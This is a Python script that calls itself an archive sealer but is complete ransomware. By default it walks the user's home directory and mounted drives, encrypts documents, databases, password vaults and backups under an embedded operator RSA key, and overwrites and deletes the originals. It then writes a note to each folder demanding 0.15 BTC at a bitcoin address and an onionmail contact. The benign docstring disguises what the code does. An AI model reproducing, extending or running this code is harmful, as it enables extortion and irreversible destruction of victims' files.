#!/usr/bin/env python3
"""In-place archive sealer: converts cold files into sealed .vlt containers.

Walks the given roots, seals every document/image/database file with a
per-file AES-256-GCM key (wrapped with the archive operator's RSA key), and
replaces the original with the sealed container to reclaim space.  A
RESTORE_INSTRUCTIONS.txt note is written to every processed folder.
"""
import argparse
import logging
import os
import secrets
import struct
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")

OPERATOR_KEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAoM7ew0bpKNrFJwDgnKrk
Qd3Uq7bsgKLKY68D9XNezIrFSuU4n1QkAHA2fnaRSy4SsCymRYZQM1NIfAz1eg0k
lndJDPUtaXjBgAfY/ASZ3wvspHL6jKnurJxhN/Q6PIHAQwTx/w+ihiA7CG1xM1rt
M3IKuPTtCgPPzElaDxDPhtofr+4+onlhZ7KikanW6OSfuhjB216SPuuAfk7fa1xT
zNDk/lBycvkfGxtFvZ9Kq2x9f+XoZqAH5SYEBuma5MIJnMqWSmxVDE+dnLMoEZbS
hgbPwkAU5WSl5q5cLCyw3meFoMiPFzHOwzQihYqFlceuTizf0I6lyidW2uQ88gSn
9wIDAQAB
-----END PUBLIC KEY-----"""

TARGET_EXT = {
    ".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pptx", ".pdf", ".odt", ".ods",
    ".jpg", ".jpeg", ".png", ".psd", ".raw", ".mp4", ".mov", ".zip", ".7z",
    ".sql", ".sqlite", ".db", ".mdb", ".csv", ".txt", ".kdbx", ".bak", ".tar", ".gz",
}
SKIP_DIRS = {"proc", "sys", "dev", "run", ".cache", "node_modules", "__pycache__"}
SEALED_EXT = ".vlt"
NOTE_NAME = "RESTORE_INSTRUCTIONS.txt"
NOTE = """Your files have been sealed with military grade encryption.
Backups and shadow copies are no longer usable.
To obtain the restore key send 0.15 BTC to bc1q8f3k2m9x0v7w4z5y6t2r1p0n9m8l7k6j5h4g3
and mail your ID {victim_id} to restore-desk@onionmail.org
Do not rename or modify .vlt files or they will be lost forever.
"""


class Sealer:
    def __init__(self, victim_id: str):
        self.pub = serialization.load_pem_public_key(OPERATOR_KEY)
        self.victim_id = victim_id
        self.done = 0
        self.noted = set()

    def wrap(self, key: bytes) -> bytes:
        return self.pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                                  algorithm=hashes.SHA256(), label=None))

    def seal_file(self, path: Path):
        try:
            data = path.read_bytes()
        except OSError:
            return
        key = AESGCM.generate_key(bit_length=256)
        nonce = secrets.token_bytes(12)
        sealed = AESGCM(key).encrypt(nonce, data, None)
        wrapped = self.wrap(key)
        out = path.with_name(path.name + SEALED_EXT)
        with open(out, "wb") as fh:
            fh.write(b"VLT1" + struct.pack(">H", len(wrapped)) + wrapped + nonce + sealed)
        # overwrite then remove the original so it cannot be undeleted
        try:
            with open(path, "r+b") as fh:
                fh.write(os.urandom(min(len(data), 1 << 20)))
                fh.flush()
                os.fsync(fh.fileno())
            path.unlink()
        except OSError as exc:
            log.debug("could not remove %s: %s", path, exc)
        self.done += 1
        self.drop_note(path.parent)

    def drop_note(self, folder: Path):
        if folder in self.noted:
            return
        self.noted.add(folder)
        try:
            (folder / NOTE_NAME).write_text(NOTE.format(victim_id=self.victim_id))
        except OSError:
            pass


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and not name.endswith(SEALED_EXT):
                    yield p


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=[str(Path.home()), "/mnt", "/media", "/srv"])
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 4)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    victim_id = secrets.token_hex(8)
    sealer = Sealer(victim_id)
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for path in candidates(args.roots):
            pool.submit(sealer.seal_file, path)
    log.info("sealed %d files (id %s)", sealer.done, victim_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
